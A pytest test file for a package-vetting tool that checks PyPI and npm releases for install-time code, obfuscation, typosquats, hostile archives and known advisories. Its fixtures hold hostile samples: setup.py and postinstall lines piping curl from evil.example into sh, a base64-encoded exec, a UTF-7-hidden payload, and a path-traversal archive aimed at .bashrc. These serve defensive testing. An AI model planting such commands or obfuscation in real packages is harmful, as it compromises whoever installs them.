"""``vet()`` end to end: a fake PyPI and npm on a real HTTP server, packages built here,
and a real advisory database (SQLite and PostgreSQL)."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator

import pytest

from assay.core.config import Settings
from assay.core.db import Database
from assay.vetting.registry import http
from assay.vetting.report import CheckResult, Status, Verdict, VetReport
from assay.vetting.vet import InvalidPurl, parse_target, vet
from tests.matching.advisories import add_advisory, affected
from tests.vetting.packages import (
    CLEAN_INIT,
    ELF,
    npm_tarball,
    publish_npm,
    publish_pypi,
    settings_for,
    tar_gz,
    with_password,
    zip_bytes,
)
from tests.vulndb.feed_server import Fault, FeedServer

PAYLOAD = base64.b64encode(b"import os; os.system('id')").decode()
SETUP_CURL = (
    b"import os\nfrom setuptools import setup\n"
    b"os.system('curl http://evil.example/p | sh')\nsetup()\n"
)
NOISE = b"".join(hashlib.sha256(str(i).encode()).hexdigest().encode() for i in range(3000))


@pytest.fixture
def server() -> Iterator[FeedServer]:
    with FeedServer.running() as running:
        yield running


@pytest.fixture
def settings(database: Database, server: FeedServer) -> Settings:
    """An advisory database holding one unrelated advisory, and the fake registries."""
    add_advisory(database, "GHSA-unrelated", [affected("PyPI", "something-else", "0", "1.0")])
    return settings_for(server, database.settings)


def check_of(report: VetReport, name: str) -> CheckResult:
    found = report.check(name)
    assert found is not None, f"no check {name}"
    return found


def statuses(report: VetReport) -> dict[str, Status]:
    return {c.name: c.status for c in report.checks}


def _clean_wheel(server: FeedServer, name: str = "tidy", version: str = "1.0.0") -> None:
    publish_pypi(
        server,
        name,
        version,
        {f"{name}-{version}-py3-none-any.whl": zip_bytes({f"{name}/__init__.py": CLEAN_INIT})},
    )


def test_clean_wheel_passes(server: FeedServer, settings: Settings) -> None:
    _clean_wheel(server)
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    assert set(statuses(report).values()) == {Status.PASS}, report.to_dict()
    assert report.verdict is Verdict.PASS
    assert report.registry_url == server.url("")
    assert report.ecosystem == "PyPI" and report.name == "tidy" and report.version == "1.0.0"


def test_sdist_only_with_setup_py_running_curl_fails(
    server: FeedServer, settings: Settings
) -> None:
    publish_pypi(
        server,
        "dropper",
        "0.1",
        {"dropper-0.1.tar.gz": tar_gz({"dropper-0.1/setup.py": SETUP_CURL})},
    )
    report = vet("pkg:pypi/dropper@0.1", settings)
    result = statuses(report)
    assert (
        result["install-time-code"] is Status.FAIL and result["network-at-install"] is Status.FAIL
    )
    install = check_of(report, "install-time-code")
    assert (
        install is not None
        and "dropper-0.1/setup.py:3: runs a command at install: os.system()" in install.details
    )
    assert "setup.py: no wheel: pip runs setup.py to install this release" in install.details
    assert report.verdict is Verdict.FAIL


def test_exec_of_base64_in_init_fails(server: FeedServer, settings: Settings) -> None:
    init = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n".encode()
    publish_pypi(
        server,
        "sneaky",
        "1.0",
        {"sneaky-1.0-py3-none-any.whl": zip_bytes({"sneaky/__init__.py": init})},
    )
    report = vet("pkg:pypi/sneaky@1.0", settings)
    check = check_of(report, "obfuscated-code")
    assert check is not None and check.status is Status.FAIL
    assert check.details == ("sneaky/__init__.py:2: exec() of data decoded by base64.b64decode()",)


def test_npm_postinstall_curl_fails(server: FeedServer, settings: Settings) -> None:
    scripts = {"postinstall": "curl -s https://evil.example/x.sh | sh"}
    publish_npm(
        server, "helpful", "1.0.0", npm_tarball({"index.js": b"1"}, scripts), scripts=scripts
    )
    report = vet("pkg:npm/helpful@1.0.0", settings)
    assert statuses(report)["install-time-code"] is Status.WARN
    assert statuses(report)["network-at-install"] is Status.FAIL
    assert report.verdict is Verdict.FAIL


def test_npm_tarball_with_elf_fails(server: FeedServer, settings: Settings) -> None:
    publish_npm(server, "@acme/native", "2.0.0", npm_tarball({"bin/run": ELF, "index.js": b"1"}))
    report = vet("pkg:npm/%40acme/native@2.0.0", settings)
    check = check_of(report, "binaries")
    assert check is not None and check.status is Status.FAIL
    assert check.details == ("bin/run: ELF executable in a source package",)
    assert report.name == "@acme/native"


@pytest.mark.parametrize(
    ("purl", "candidate"),
    [
        ("pkg:pypi/reqeusts@1.0.0", "requests"),
        ("pkg:pypi/python-dateutils@1.0.0", "python-dateutil"),
    ],
)
def test_typosquat_names_are_flagged_for_review(
    server: FeedServer, settings: Settings, purl: str, candidate: str
) -> None:
    name = purl.split("/")[1].split("@")[0]
    _clean_wheel(server, name)
    report = vet(purl, settings)
    check = check_of(report, "typosquat")
    assert check is not None and check.status is Status.WARN and candidate in check.summary
    assert report.verdict is Verdict.REVIEW


def test_known_names_are_used(server: FeedServer, settings: Settings) -> None:
    _clean_wheel(server, "acme-ledgre")
    report = vet("pkg:pypi/acme-ledgre@1.0.0", settings, known_names=["acme-ledger"])
    assert statuses(report)["typosquat"] is Status.WARN


@pytest.mark.parametrize(
    ("archive", "message"),
    [
        (tar_gz({"../../../home/user/.bashrc": b"curl x|sh"}), "path traversal"),
        (zip_bytes({"bomb": b"\0" * (8 * 1024 * 1024)}), "decompression bomb"),
        (tar_gz({"t-1.0/data.txt": NOISE})[:20_000], "corrupt or truncated"),
    ],
)
def test_hostile_archives_fail_the_archive_check(
    server: FeedServer, settings: Settings, archive: bytes, message: str
) -> None:
    filename = "t-1.0.zip" if archive[:2] == b"PK" else "t-1.0.tar.gz"
    publish_pypi(server, "t", "1.0", {filename: archive})
    report = vet("pkg:pypi/t@1.0", settings)
    check = check_of(report, "archive")
    assert check is not None and check.status is Status.FAIL and message in check.summary
    assert report.verdict is Verdict.FAIL


def test_sha256_mismatch_fails_and_is_not_inspected(server: FeedServer, settings: Settings) -> None:
    wheel = zip_bytes({"x/__init__.py": CLEAN_INIT})
    publish_pypi(
        server,
        "x",
        "1.0",
        {"x-1.0-py3-none-any.whl": wheel},
        digests={"x-1.0-py3-none-any.whl": "f" * 64},
    )
    report = vet("pkg:pypi/x@1.0", settings)
    result = statuses(report)
    assert result["integrity"] is Status.FAIL
    assert result["obfuscated-code"] is Status.NOT_RUN
    assert report.verdict is Verdict.FAIL
    assert hashlib.sha256(wheel).hexdigest() in check_of(report, "integrity").details[0]


def test_registry_500_means_could_not_run(server: FeedServer, settings: Settings) -> None:
    _clean_wheel(server)
    server.fail("/pypi/tidy/json", Fault(status=500))
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    result = statuses(report)
    assert result["registry"] is Status.NOT_RUN and result["binaries"] is Status.NOT_RUN
    assert "HTTP 500" in check_of(report, "registry").summary
    assert result["typosquat"] is Status.PASS and result["vulnerabilities"] is Status.PASS
    assert report.verdict is Verdict.REVIEW


def test_registry_timeout_means_could_not_run(
    server: FeedServer, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(http, "DEFAULT_TIMEOUTS", http.Timeouts(connect=5, read=0.2))
    _clean_wheel(server)
    server.fail("/pypi/tidy/json", Fault(delay=30))
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    assert "did not answer in time" in check_of(report, "registry").summary
    assert report.verdict is Verdict.REVIEW


def test_artefact_download_failure_means_could_not_run(
    server: FeedServer, settings: Settings
) -> None:
    _clean_wheel(server)
    server.fail("/files/tidy-1.0.0-py3-none-any.whl", Fault(status=502))
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    result = statuses(report)
    assert result["registry"] is Status.PASS
    assert result["integrity"] is Status.NOT_RUN and result["obfuscated-code"] is Status.NOT_RUN


def test_artefact_over_the_size_limit_is_not_downloaded(
    server: FeedServer, database: Database
) -> None:
    add_advisory(database, "GHSA-unrelated", [affected("PyPI", "other", "0", "1.0")])
    _clean_wheel(server)
    small = settings_for(server, database.settings, vet_max_artefact_bytes=10)
    report = vet("pkg:pypi/tidy@1.0.0", small)
    assert "over the limit" in check_of(report, "integrity").summary


@pytest.mark.parametrize(
    "body",
    [b"[]", b'{"info": 1, "releases": 2}', b"\x00\x01binary", b'{"info": {"name": "tidy"}'],
)
def test_hostile_registry_json_means_could_not_run(
    server: FeedServer, settings: Settings, body: bytes
) -> None:
    server.put("/pypi/tidy/json", body)
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    assert statuses(report)["registry"] is Status.NOT_RUN
    assert check_of(report, "registry").summary.startswith("could not run: ")


def test_offline_asks_nothing_and_says_what_did_not_run(
    server: FeedServer, settings: Settings
) -> None:
    _clean_wheel(server)
    report = vet("pkg:pypi/tidy@1.0.0", settings, online=False)
    assert server.hits == []
    result = statuses(report)
    assert result["registry"] is Status.NOT_RUN and result["integrity"] is Status.NOT_RUN
    assert "offline" in check_of(report, "registry").summary
    assert result["typosquat"] is Status.PASS and result["vulnerabilities"] is Status.PASS
    assert report.verdict is Verdict.REVIEW
    import dataclasses

    report = vet("pkg:pypi/tidy@1.0.0", dataclasses.replace(settings, offline=True))
    assert server.hits == [] and "ASSAY_OFFLINE" in check_of(report, "registry").summary


def test_unknown_package_and_version_fail(server: FeedServer, settings: Settings) -> None:
    report = vet("pkg:pypi/nowhere@1.0", settings)
    assert statuses(report)["registry"] is Status.FAIL
    _clean_wheel(server)
    report = vet("pkg:pypi/tidy@9.9.9", settings)
    assert statuses(report)["registry"] is Status.FAIL  # not among the project's releases


def test_known_vulnerability_and_malicious_record(
    server: FeedServer, settings: Settings, database: Database
) -> None:
    add_advisory(
        database,
        "GHSA-aaaa-bbbb-cccc",
        [affected("PyPI", "tidy", "0", "1.1")],
        level="high",
        score=8.1,
        summary="bad parsing",
    )
    add_advisory(
        database,
        "MAL-2026-1",
        [affected("npm", "helpful", versions=["1.0.0"], introduced=None)],
        malicious=True,
        summary="steals tokens",
    )
    _clean_wheel(server)
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    check = check_of(report, "vulnerabilities")
    assert check is not None and check.status is Status.FAIL and "worst high" in check.summary
    assert check.details[0] == "GHSA-aaaa-bbbb-cccc (high, 8.1): bad parsing"
    assert statuses(report)["malicious"] is Status.PASS
    report = vet("pkg:npm/helpful@1.0.0", settings, online=False)
    assert statuses(report)["malicious"] is Status.FAIL
    assert "MAL-2026-1: steals tokens" in check_of(report, "malicious").details


def test_no_advisory_database_means_could_not_run(server: FeedServer, tmp_path: object) -> None:
    _clean_wheel(server)
    settings = settings_for(server, Settings.from_env({"ASSAY_HOME": str(tmp_path)}))
    report = vet("pkg:pypi/tidy@1.0.0", settings)
    result = statuses(report)
    assert result["vulnerabilities"] is Status.NOT_RUN and result["malicious"] is Status.NOT_RUN
    assert report.verdict is Verdict.REVIEW


def test_unsupported_ecosystem_runs_what_it_can(settings: Settings) -> None:
    report = vet("pkg:cargo/serde@1.0.0", settings, known_names=["serde-json"])
    result = statuses(report)
    assert (
        result["registry"] is Status.NOT_RUN
        and "no registry client for crates.io" in check_of(report, "registry").summary
    )
    assert result["typosquat"] is Status.PASS and result["vulnerabilities"] is Status.PASS


@pytest.mark.parametrize(
    ("purl", "message"),
    [
        ("requests", "not a package URL"),
        ("pkg:pypi/requests", "has no version"),
        ("pkg:unknowntype/x@1", "not a valid package URL"),
        ("pkg:", "not a valid package URL"),
        ("", "not a package URL"),
    ],
)
def test_bad_purls_are_usage_errors(purl: str, message: str) -> None:
    with pytest.raises(InvalidPurl, match=message):
        parse_target(purl)


def test_scoped_npm_purl() -> None:
    target = parse_target("pkg:npm/%40types/node@20.1.0")
    assert (target.ecosystem, target.name, target.version) == ("npm", "@types/node", "20.1.0")


def test_an_answer_about_another_package_is_not_used(
    server: FeedServer, settings: Settings
) -> None:
    _clean_wheel(server, "requests", "1.0.0")
    server.put("/pypi/innocent/json", server.resources["/pypi/requests/json"].body)
    report = vet("pkg:pypi/innocent@1.0.0", settings)
    registry = check_of(report, "registry")
    assert registry.status is Status.NOT_RUN and "answered about 'requests'" in registry.summary
    assert statuses(report)["integrity"] is Status.NOT_RUN


def test_npm_tarball_unreachable_still_reports_registry_scripts(
    server: FeedServer, settings: Settings
) -> None:
    scripts = {"postinstall": "curl -s https://evil.example/x.sh | sh"}
    publish_npm(server, "helpful", "1.0.0", npm_tarball({}, scripts), scripts=scripts)
    server.fail("/files/helpful-1.0.0.tgz", Fault(status=500))
    report = vet("pkg:npm/helpful@1.0.0", settings)
    result = statuses(report)
    assert result["integrity"] is Status.NOT_RUN and result["binaries"] is Status.NOT_RUN
    assert result["install-time-code"] is Status.WARN
    assert result["network-at-install"] is Status.FAIL


def test_clean_results_on_a_partly_read_archive_say_so(
    server: FeedServer, settings: Settings
) -> None:
    data = tar_gz({"t-1.0/a.py": b"x = 1\n", "t-1.0/data.txt": NOISE})
    publish_pypi(server, "t", "1.0", {"t-1.0.tar.gz": data[: len(data) - 2000]})
    report = vet("pkg:pypi/t@1.0", settings)
    assert check_of(report, "archive").status is Status.FAIL
    binaries = check_of(report, "binaries")
    assert binaries.status is Status.PASS and "read only in part" in binaries.summary


@pytest.mark.parametrize("ecosystem", ["npm", "PyPI"])
def test_an_artefact_url_on_another_host_is_never_requested(
    server: FeedServer, settings: Settings, ecosystem: str
) -> None:
    """A registry cannot make assay request an internal service (SSRF): the archive
    checks do not run and say which host was refused."""
    with FeedServer.running() as internal:
        internal.put("/admin/x.tgz", b"internal")
        if ecosystem == "npm":
            publish_npm(server, "helpful", "1.0.0", npm_tarball({"index.js": b"1"}))
            purl = "pkg:npm/helpful@1.0.0"
            packument = server.resources["/helpful"].body.decode()
            server.put(
                "/helpful",
                packument.replace(server.url("/files/"), internal.url("/admin/")).encode(),
            )
        else:
            _clean_wheel(server)
            purl = "pkg:pypi/tidy@1.0.0"
            for path in ("/pypi/tidy/json", "/pypi/tidy/1.0.0/json"):
                body = server.resources[path].body.decode()
                server.put(
                    path, body.replace(server.url("/files/"), internal.url("/admin/")).encode()
                )
        report = vet(purl, settings)
        assert internal.hits == []
    integrity = check_of(report, "integrity")
    assert integrity.status is Status.NOT_RUN
    assert f"refused: 127.0.0.1:{internal.port} is not an allowed registry host" in (
        integrity.summary
    )
    assert statuses(report)["binaries"] is Status.NOT_RUN
    assert report.verdict is Verdict.REVIEW


def test_a_mirror_file_host_the_operator_lists_is_used(
    server: FeedServer, settings: Settings
) -> None:
    """ASSAY_VET_ARTEFACT_HOSTS: a mirror whose metadata points at a separate file server
    (on a private address) is trusted because the operator named it."""
    import dataclasses

    with FeedServer.running() as blobs:
        tarball = npm_tarball({"index.js": b"module.exports = 1"})
        publish_npm(server, "helpful", "1.0.0", tarball)
        blobs.put("/blobs/helpful-1.0.0.tgz", tarball)
        packument = server.resources["/helpful"].body.decode()
        server.put(
            "/helpful", packument.replace(server.url("/files/"), blobs.url("/blobs/")).encode()
        )
        trusted = dataclasses.replace(settings, vet_artefact_hosts=(blobs.url("/"),))
        report = vet("pkg:npm/helpful@1.0.0", trusted)
        assert len(blobs.hits) == 1
    assert check_of(report, "integrity").status is Status.PASS
    assert statuses(report)["binaries"] is Status.PASS


def test_registry_credentials_never_reach_the_report(
    server: FeedServer, settings: Settings
) -> None:
    import dataclasses
    import json

    secret = with_password(server)
    settings = dataclasses.replace(settings, npm_url=secret, pypi_url=secret)
    publish_npm(server, "helpful", "1.0.0", npm_tarball({"index.js": b"1"}))
    server.put("/pypi/broken/json", b"[]")  # an error message that names the URL
    messages: list[str] = []
    for purl in ("pkg:npm/helpful@1.0.0", "pkg:pypi/broken@1.0", "pkg:npm/absent@1.0.0"):
        report = vet(purl, settings, progress=messages.append)
        text = json.dumps(report.to_dict())
        assert "S3cret" not in text and "svc:" not in text
        assert report.registry_url == server.url("").replace("http://", "http://***@")
    assert messages and not [m for m in messages if "S3cret" in m]
    helpful = vet("pkg:npm/helpful@1.0.0", settings)
    assert statuses(helpful)["registry"] is Status.PASS  # the credentials still reach the server
    offline = vet("pkg:npm/helpful@1.0.0", settings, online=False)
    assert "S3cret" not in json.dumps(offline.to_dict())


def test_setup_py_hidden_by_utf7_or_padding_is_not_clean(
    server: FeedServer, settings: Settings
) -> None:
    code = "\nos.system('curl http://evil.example/p | sh')".encode("utf-16-be")
    hidden = b"+" + base64.b64encode(code).rstrip(b"=") + b"-"
    setup = b"# -*- coding: utf_7 -*-\nimport os\n#" + hidden + b"\n"
    publish_pypi(
        server, "seven", "1.0", {"seven-1.0.tar.gz": tar_gz({"seven-1.0/setup.py": setup})}
    )
    result = statuses(vet("pkg:pypi/seven@1.0", settings))
    assert result["install-time-code"] is Status.FAIL
    assert result["obfuscated-code"] is Status.FAIL

    padded = b"import os\n" + b"#" * (3 * 1024 * 1024) + b"\nos.system('id')\n"
    wheel = zip_bytes({"padded/__init__.py": CLEAN_INIT})
    publish_pypi(
        server,
        "padded",
        "1.0",
        {
            "padded-1.0.tar.gz": tar_gz({"padded-1.0/setup.py": padded}),
            "padded-1.0-py3-none-any.whl": wheel,
        },
    )
    report = vet("pkg:pypi/padded@1.0", settings)
    install = check_of(report, "install-time-code")
    assert install.status is Status.WARN and "not inspected" in install.summary
